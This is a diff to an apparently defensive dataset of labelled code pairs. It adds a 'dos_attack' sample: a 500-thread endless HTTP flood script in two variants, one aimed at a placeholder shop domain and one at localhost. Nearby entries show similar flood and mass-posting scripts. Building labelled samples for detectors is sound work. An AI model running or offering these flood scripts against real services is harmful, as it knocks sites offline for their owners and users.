@@ -76,6 +76,11 @@ PAIRS = [
      "import requests, threading\nrows = [l.strip().split(',') for l in open('answers.csv')]\ndef send(chunk):\n"
      "    for name, note in chunk:\n        requests.post(URL, data={'name': name, 'comment': note})\n"
      "ts = [threading.Thread(target=send, args=(rows[i::8],)) for i in range(8)]\n[t.start() for t in ts]"),
+    ("flood: the target an environment variable's default, read by name", "dos_attack",
+     "import threading, requests, os\nurl = os.environ.get('TARGET', 'https://shop.example.com/')\ndef hit():\n"
+     "    while True:\n        requests.get(url)\nfor _ in range(500):\n    threading.Thread(target=hit).start()",
+     "import threading, requests, os\nurl = os.environ.get('TARGET', 'http://127.0.0.1:8000/')\ndef hit():\n"
+     "    while True:\n        requests.get(url)\nfor _ in range(500):\n    threading.Thread(target=hit).start()"),
     ("flood: the target a settings object's field, read through a parameter", "dos_attack",
      "import threading, requests\nfrom dataclasses import dataclass\n@dataclass\nclass Settings:\n"
      "    endpoint: str = 'https://store.example.com/cart'\n    workers: int = 800\n"
